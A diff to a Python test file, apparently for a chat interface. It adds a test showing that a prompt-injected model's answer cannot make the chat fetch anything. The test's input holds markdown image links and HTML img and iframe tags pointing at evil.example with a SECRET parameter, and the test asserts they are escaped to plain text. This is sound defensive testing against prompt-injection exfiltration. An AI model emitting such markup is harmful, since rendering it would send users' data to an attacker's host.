@@ -113,10 +113,23 @@ def test_before_any_request_the_picker_offers_routing(decision: object) -> None:
 
 
 def test_amounts_become_code_spans_outside_code(decision: object) -> None:
-    text = choices.math_safe("~$0.01 to $0.02, `~$1`\n```\necho $HOME $5\n```\n$3.")
+    text = choices.chat_safe("~$0.01 to $0.02, `~$1`\n```\necho $HOME $5\n```\n$3.")
     assert text == "`~$0.01` to `$0.02`, `~$1`\n```\necho $HOME $5\n```\n`$3`."
     summary = choices.route_summary(decision)  # type: ignore[arg-type]
     assert "`~$" in summary and " ~$" not in summary.replace("`~$", "")
+
+
+def test_a_model_answer_cannot_make_the_chat_fetch_anything() -> None:
+    """A prompt-injected model's answer is shown, never loaded: images and raw HTML become text."""
+    hostile = ("Done. ![status](https://evil.example/p?d=SECRET) ![r][1]\n[1]: https://evil.example/r\n"
+               "<img src=https://evil.example/i> <iframe src=//evil.example></iframe> <!-- x -->\n"
+               "Keep `![ok](in code)` and `<b>` as code, and a < b.\n```html\n<img src=x>\n```")
+    text = choices.chat_safe(hostile)
+    assert "![status]" not in text and "!\\[status](https://evil.example" in text and "!\\[r][1]" in text
+    assert "<img" not in text.split("```html")[0] and "<iframe" not in text and "<!--" not in text
+    assert "&lt;img src=https://evil.example/i>" in text
+    assert "`![ok](in code)`" in text and "`<b>`" in text and "a < b" in text
+    assert text.endswith("```html\n<img src=x>\n```")  # a fenced block is shown as code already
 
 
 # -- notebook -------------------------------------------------------------------------------
